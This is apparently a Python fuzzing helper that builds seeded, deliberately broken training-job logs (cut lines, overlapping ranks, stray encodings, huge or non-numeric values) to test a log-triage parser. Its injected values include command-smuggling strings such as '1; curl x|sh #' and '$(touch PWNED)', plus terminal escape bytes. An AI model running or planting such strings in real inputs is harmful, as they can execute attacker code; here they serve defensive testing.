"""Logs as they should not be: ranks that write over each other, lines cut short, bytes of other encodings, huge counts.

Every log is made from a seed, so that one that fails can be made again.
"""

from __future__ import annotations

import json
from random import Random
from typing import Any

from megatron_hcp.triage.signatures.table import SIGNATURES
from support.examples import EXAMPLES

_RECORDS: tuple[dict[str, Any], ...] = (
    {"event": "start", "job": "12", "attempt": 0, "start": "srun", "nodes": ["n1", "n2"], "gpus_per_node": 8},
    {"event": "rank", "rank": 9, "node": "n2", "tp": 0},
    {"event": "group", "desc": "HIERARCHICAL_CONTEXT_PARALLEL_GROUP_L0", "ranks": [0, 1]},
    {"event": "stopped", "phase": 0, "reason": "hcp check found errors in the launch"},
)
_MEASURED = (
    "iteration 3/ 9 | elapsed time per iteration (ms): 123.4 | throughput per GPU (TFLOP/s/GPU): 400.1 |",
    "Step Time : 3.1s GPU utilization: 412.9MODEL_TFLOP/s/GPU",
    "step:1 - perf/mfu/actor:0.43 - training/global_step:1",
    "PG ID 4 PG GUID 9(HIERARCHICAL_CONTEXT_PARALLEL_GROUP_L0) Rank 1] Launching",
    "using world size: 8, hierarchical context-parallel sizes: [2, 2], tensor: 2",
    "Root Cause (first observed failure):\n[0]:\n  host      : n2\n  rank      : 11 (local_rank: 3)\n  exitcode  : -9",
    "srun: error: n2: task 5: Exited with exit code 1",
)
"""Lines whose numbers count."""
_HONEST = (
    *(EXAMPLES[row.id].example for row in SIGNATURES),
    *(f"hcp-job: {json.dumps(record)}" for record in _RECORDS),
    *_MEASURED,
)
_PREFIXES = ("", "3: ", "[rank3]: ", "12: [default3]:[rank11]: ", "n1:12345:12350 [3] ", "(W pid=7, ip=10.0.0.2) ")
_NUMBERS = (
    "0",
    "-1",
    "123.412.5",
    "400.1.",
    ".",
    "nan",
    "NaN",
    "inf",
    "-inf",
    "1e999",
    "9" * 400,
    "9" * 5000,
    "١٢",
    "²",
    "0x1f",
    "1_000",
    "",
)
_VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    10**30,
    1.5,
    float("nan"),
    float("inf"),
    "",
    "1; curl x|sh #",
    "$(touch PWNED)",
    "-rf",
    "n\u202e1",
    "a\nb",
    "\x1b[2J",
    "\ud800",
    "x" * 5000,
    [],
    [None],
    [[0]],
    ["n1", 3],
    [0, "1"],
    {},
    {"a": {"b": []}},
)
_BYTES = (b"\xff\xfe", b"\x1b[31m", b"\x1b]52;c;eA==\x07", b"\r", b"\x85", "é中\u202e".encode(), b"\xe9", b"\x08\x7f")


def made_log(seed: int) -> bytes:
    """One log of a few lines; the same seed gives the same bytes."""
    random = Random(seed)
    lines = [_line(random) for _ in range(random.randint(1, 12))]
    data = random.choice((b"\n", b"\n", b"\r\n", b"\r")).join(lines)
    if random.random() < 0.05:
        data = data.decode("utf-8", "replace").encode("utf-16")
    return data[: random.randint(1, len(data))] if data and random.random() < 0.2 else data


def _line(random: Random) -> bytes:
    text = _record(random) if random.random() < 0.3 else random.choice(random.choice((_HONEST, _MEASURED)))
    if random.random() < 0.5:
        text = _other_number(random, text)
    line = (random.choice(_PREFIXES) + text).encode("utf-8", "surrogatepass")
    how = random.randrange(10)
    if how == 0:  # cut short
        line = line[: random.randrange(len(line) + 1)]
    elif how == 1:  # written over by another rank, in the middle
        other = random.choice(_HONEST).encode()
        at = random.randrange(len(line) + 1)
        line = line[:at] + other[: random.randrange(len(other) + 1)] + line[at:]
    elif how == 2:
        at = random.randrange(len(line) + 1)
        line = line[:at] + random.choice(_BYTES) + line[at:]
    elif how == 3:
        line = line[:20] + random.choice((b"x", b"Error: ", b"9", b"[", b'{"a":')) * random.choice((500, 5000)) + line
    elif how == 4:
        noise, coins = random.randbytes(len(line)), random.randbytes(len(line))
        line = bytes(other if coin & 1 else byte for byte, other, coin in zip(line, noise, coins))
    return line


def _other_number(random: Random, text: str) -> str:
    """The text with one of its numbers replaced by something that is none, or a huge one."""
    digits = [place for place, letter in enumerate(text) if letter.isdigit()]
    if not digits:
        return text
    first = last = random.choice(digits)
    while last < len(text) and (text[last].isdigit() or text[last] == "."):
        last += 1
    return text[:first] + random.choice(_NUMBERS) + text[last:]


def _record(random: Random) -> str:
    """A line of the job itself, with a value that no job writes."""
    record = dict(random.choice(_RECORDS))
    how = random.randrange(6)
    if how == 0:
        return "hcp-job: " + "[" * random.choice((10, 3000, 200_000))
    if how == 1:
        return "hcp-job: " + '{"event":' * random.choice((10, 3000))
    if how == 2:
        return "hcp-job: " + json.dumps(random.choice(_VALUES))
    for _ in range(random.randint(1, 3)):
        record[random.choice(list(record))] = random.choice(_VALUES)
    return "hcp-job: " + json.dumps(record, ensure_ascii=random.random() < 0.5)
